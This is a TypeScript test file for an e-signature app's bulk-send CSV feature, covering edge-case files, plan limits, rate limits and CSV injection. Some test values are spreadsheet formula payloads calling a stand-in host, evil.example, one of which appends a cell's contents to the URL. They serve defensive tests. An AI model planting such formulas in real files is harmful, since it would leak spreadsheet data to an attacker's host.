import { API_MESSAGES, fillTemplate } from '@signflow/contract/api-errors';
import { MAX_BULK_SEND_BYTES } from '@signflow/contract/bulk-sends';
import type { TemplateRole } from '@signflow/contract/templates';
import { and, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { bulkSendRows, bulkSends } from '../../../src/db/schema';
import { makeDueBulkSends } from '../../../src/modules/bulk-sends/bulk-send-worker';
import {
  bulkSendJobTestApp,
  csvOf,
  documentsFrom,
  freshTag,
  HEADER,
  postBulkSend,
  queueWithoutRoute,
  waitForFinished,
} from '../../support/bulk-sends';
import { owner } from '../../support/documents';
import { errorAnswer } from '../../support/error-answers';
import { makeTemplate, saveTemplateFields, senderFilledTemplate, templateField, useOf } from '../../support/templates';

/**
 * Bulk send as an attacker and a careless owner would use it (docs/domain.md#bulk-send): files at the edges of CSV,
 * two files at once at the plan's limit, a template deleted under a queued bulk send, a sample file a spreadsheet
 * would run. The app's own job is left asleep; the tests that need it run passes of their own or wake it by the route.
 */
const { t, work } = bulkSendJobTestApp();

describe('a template deleted while its bulk send is queued', () => {
  it('fails each row with why, finishes, and leaves no copied PDF behind', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await senderFilledTemplate(t, who);
    const id = await queueWithoutRoute(t, who, made, csvOf(30));
    expect((await who.call('DELETE', `/v1/templates/${made.template.id}`)).statusCode).toBe(200);
    await makeDueBulkSends(work, () => false);
    const [bulkSend] = await t.db.select().from(bulkSends).where(eq(bulkSends.id, id));
    expect(bulkSend).toMatchObject({ status: 'Finished', total: 30, created: 0, failed: 30, templateId: null });
    const rows = await t.db.select().from(bulkSendRows).where(eq(bulkSendRows.bulkSendId, id));
    expect(new Set(rows.map((row) => row.error))).toEqual(new Set([API_MESSAGES.bulkSendTemplateGone]));
    expect(t.storedFiles().filter((file) => file.startsWith(`files/${who.accountId}/`))).toEqual([]);
  });
});

describe('two files at once at the plan’s limit', () => {
  it('lets only one take the last places', async () => {
    const who = await owner(t, 'TRIAL');
    const made = await senderFilledTemplate(t, who);
    const [a, b] = await Promise.all([
      postBulkSend(t, who.token, made.template.id, csvOf(2), [{ name: 'send', value: 'false' }]),
      postBulkSend(t, who.token, made.template.id, csvOf(2), [{ name: 'send', value: 'false' }]),
    ]);
    expect([a.statusCode, b.statusCode].sort()).toEqual([202, 400]);
    const done = a.statusCode === 202 ? a : b;
    await waitForFinished(who, done.json<{ id: string }>().id);
    expect(await documentsFrom(t.db, made.template.id)).toBe(2);
  });
});

describe("the plan's places while a file is queued", () => {
  // Decided (docs/domain.md#bulk-send): a file is checked against the room left, the rows still to come counted, but
  // holds no reservation; a document made meanwhile by hand, an upload or a public link's visitor is served first,
  // and a row past the plan then fails in the report with the plan's own message. The plan is never exceeded.
  it("serves a document made by hand first; the row that no longer fits fails with the plan's message", async () => {
    const who = await owner(t, 'TRIAL');
    const made = await senderFilledTemplate(t, who);
    const id = await queueWithoutRoute(t, who, made, csvOf(3), false);
    const byHand = await who.call('POST', `/v1/templates/${made.template.id}/documents`, useOf(made));
    expect(byHand.statusCode, byHand.body).toBe(201);
    await makeDueBulkSends(work, () => false);
    const [bulkSend] = await t.db.select().from(bulkSends).where(eq(bulkSends.id, id));
    expect({ created: bulkSend?.created, failed: bulkSend?.failed }).toEqual({ created: 2, failed: 1 });
    const [failedRow] = await t.db
      .select()
      .from(bulkSendRows)
      .where(and(eq(bulkSendRows.bulkSendId, id), eq(bulkSendRows.status, 'failed')));
    expect(failedRow?.error).toContain('TRIAL');
    expect(await documentsFrom(t.db, made.template.id)).toBe(3);
  });
});

describe('CSV files at the edges', () => {
  it('answers 400, never 500, for files a spreadsheet or an attacker may send', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await senderFilledTemplate(t, who);
    const tag = freshTag();
    const row = (n: number) =>
      `Client ${n},client${n}.${tag}@example.com,Witness ${n},witness${n}.${tag}@example.com,Company ${n},true,2027-03-01`;
    const cases: [string, string | Buffer][] = [
      ['a header cell repeated', `${HEADER},Client name\n${row(1)},x\n`],
      ['a stray quote in an unquoted value', `${HEADER}\n${row(1).replace('Company 1', 'Comp"any')}\n`],
      ['UTF-16 with its byte order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csvOf(1), 'utf16le')])],
      ['a header of two million empty cells', `${','.repeat(MAX_BULK_SEND_BYTES - 100)}\n${row(1)}\n`],
      ['a formula in a name', `${HEADER}\n${row(1).replace('Client 1', '=HYPERLINK("http://evil.example","x")')}\n`],
      ['one row of 100,000 cells', `${HEADER}\n${row(1)}${',x'.repeat(100_000)}\n`],
    ];
    for (const [name, file] of cases) {
      const started = Date.now();
      const response = await postBulkSend(t, who.token, made.template.id, file, [{ name: 'send', value: 'false' }]);
      expect(response.statusCode, `${name}: ${response.body.slice(0, 200)}`).toBeLessThan(500);
      expect(Date.now() - started, name).toBeLessThan(10_000);
    }
  });

  it('reads a file whose lines end with CR alone (as older spreadsheets save)', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await senderFilledTemplate(t, who);
    const response = await postBulkSend(t, who.token, made.template.id, csvOf(2, freshTag(), '\r'), [
      { name: 'send', value: 'false' },
    ]);
    expect(response.statusCode, response.body).toBe(202);
    expect(response.json()).toMatchObject({ rows: 2 });
  });

  it('takes a header with a trailing empty cell, as spreadsheets save a sheet with an empty column', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await senderFilledTemplate(t, who);
    const tag = freshTag();
    const file = `${HEADER},\r\nClient 1,c1.${tag}@example.com,Witness 1,w1.${tag}@example.com,Company 1,true,2027-03-01,\r\n`;
    const response = await postBulkSend(t, who.token, made.template.id, file, [{ name: 'send', value: 'false' }]);
    expect(response.statusCode, response.body).toBe(202);
  });
});

describe('the sample file', () => {
  it('reads back as it was given, roles named with commas, quotes and a leading sign', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const roles = [
      { name: 'Smith, "Anna"', level: 1 },
      { name: '+Witness', level: 2 },
    ];
    const made = await makeTemplate(t, who, { roles });
    const [first, second] = made.roles as [TemplateRole, TemplateRole];
    await saveTemplateFields(who, made, { create: [templateField(first.id), templateField(second.id)] });
    const sample = await who.call('GET', `/v1/templates/${made.id}/bulk-sends/sample.csv`);
    const response = await postBulkSend(t, who.token, made.id, sample.body, [{ name: 'send', value: 'false' }]);
    expect(response.statusCode, response.body).toBe(202);
  });

  it('starts no cell with a formula sign a spreadsheet would run (CSV injection)', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const roles = [
      { name: '=HYPERLINK("http://evil.example/?"&A2,"Open")', level: 1 },
      { name: 'Witness', level: 2 },
    ];
    const made = await makeTemplate(t, who, { roles });
    const sample = await who.call('GET', `/v1/templates/${made.id}/bulk-sends/sample.csv`);
    const cells = sample.body
      .replace(/^\uFEFF/, '')
      .split('\r\n')[0]
      ?.match(/("([^"]|"")*"|[^,]*)(,|$)/g)
      ?.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
    expect(
      cells?.filter((cell) => /^[=+\-@]/.test(cell)),
      'cells a spreadsheet reads as formulas',
    ).toEqual([]);
  });
});

describe('a file sent for signing', () => {
  it('is refused at once when the template has a role without a field, which Invite Sign would refuse each row for', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await makeTemplate(t, who);
    const [client] = made.roles as [TemplateRole, TemplateRole];
    await saveTemplateFields(who, made, { create: [templateField(client.id)] });
    const tag = freshTag();
    const file = `Client name,Client email,Witness name,Witness email\r\n${Array.from(
      { length: 50 },
      (_, n) => `C ${n},c${n}.${tag}@example.com,W ${n},w${n}.${tag}@example.com`,
    ).join('\r\n')}\r\n`;
    const response = await postBulkSend(t, who.token, made.id, file);
    // Not queued to fail row by row in the job: the role is named, as Invite Sign names it.
    expect(response.json()).toEqual({
      ...errorAnswer(400, fillTemplate(API_MESSAGES.signersNeedFields, { names: 'Witness' })),
      template: API_MESSAGES.signersNeedFields,
      params: { names: 'Witness' },
    });
  });
});

describe('the largest file', () => {
  // FINDING (a measure, not a bound: the machine decides): the file is parsed and every row checked synchronously,
  // on PGlite inside the transaction that holds the only connection; the route has neither the uploads' admission
  // nor a rate limit. Measured on 2 shared cores: another account's call waited 1.8 to 5.4 s.
  it("keeps other accounts' calls answered while three 5,000-row files are checked at once", async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await senderFilledTemplate(t, who);
    const other = await owner(t);
    // 5,000 rows that pass but the last: the whole file is read and checked, then refused, so nothing is queued.
    const lines = csvOf(5000).split('\r\n');
    lines[5000] = (lines[5000] ?? '').replace('2027-03-01', '2027-02-30');
    const file = lines.join('\r\n');
    const started = Date.now();
    let settled = false;
    const posts = Promise.all(
      Array.from({ length: 3 }, () => postBulkSend(t, who.token, made.template.id, file)),
    ).finally(() => {
      settled = true;
    });
    const waits: number[] = [];
    while (!settled) {
      const before = Date.now();
      expect((await other.call('GET', '/v1/templates')).statusCode).toBe(200);
      waits.push(Date.now() - before);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const answers = await posts;
    const postsMs = Date.now() - started;
    const otherMs = Math.max(...waits);
    expect(answers.map((answer) => answer.statusCode)).toEqual([400, 400, 400]);
    console.log(
      `three 5,000-row files: ${postsMs} ms; another account's GET /v1/templates meanwhile, at worst: ${otherMs} ms (${waits.length} calls)`,
    );
  });
});

describe('files posted one after another', () => {
  it('are taken 30 an hour per account, refused ones too, then 429 with Retry-After; another account is not held', async () => {
    const who = await owner(t, 'ENTERPRISE');
    const made = await senderFilledTemplate(t, who);
    const unknownColumn = 'Nobody\r\nx\r\n';
    for (let n = 0; n < 30; n += 1) {
      expect((await postBulkSend(t, who.token, made.template.id, unknownColumn)).statusCode).toBe(400);
    }
    const held = await postBulkSend(t, who.token, made.template.id, unknownColumn);
    expect(held.statusCode).toBe(429);
    expect(Number(held.headers['retry-after'])).toBeGreaterThan(0);
    const other = await owner(t, 'ENTERPRISE');
    const theirs = await senderFilledTemplate(t, other);
    expect((await postBulkSend(t, other.token, theirs.template.id, unknownColumn)).statusCode).toBe(400);
  });
});
